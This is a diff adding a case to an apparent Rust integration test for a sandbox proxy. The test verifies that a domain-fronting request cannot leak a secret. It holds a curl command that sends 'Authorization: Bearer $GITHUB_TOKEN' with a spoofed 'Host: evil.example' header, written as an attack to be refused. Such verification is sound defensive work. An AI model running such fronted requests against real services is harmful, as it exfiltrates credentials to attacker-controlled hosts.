@@ -512,6 +512,22 @@ async fn secrets_reach_only_their_hosts_and_never_the_sandbox() {
         eprintln!("memory probe on {:?}: {r}", isolation());
     }
 
+    // Domain fronting: a request for another host inside a connection terminated for the secret's
+    // host is refused (421), the value never sent.
+    let (out, _) = curl(
+        &c,
+        &id,
+        "--http1.1 -H 'Host: evil.example' -H \"Authorization: Bearer $GITHUB_TOKEN\" https://good.example:8443/fronted",
+    )
+    .await;
+    assert!(
+        out.contains("a request for evil.example is refused"),
+        "{out}"
+    );
+    assert!(!std::fs::read_to_string(&good_log)
+        .unwrap()
+        .contains("/fronted"));
+
     // Another host never gets it: TLS to evil.example is not intercepted, so the placeholder (a
     // worthless string) is all it can see.
     let (out, code) = curl(
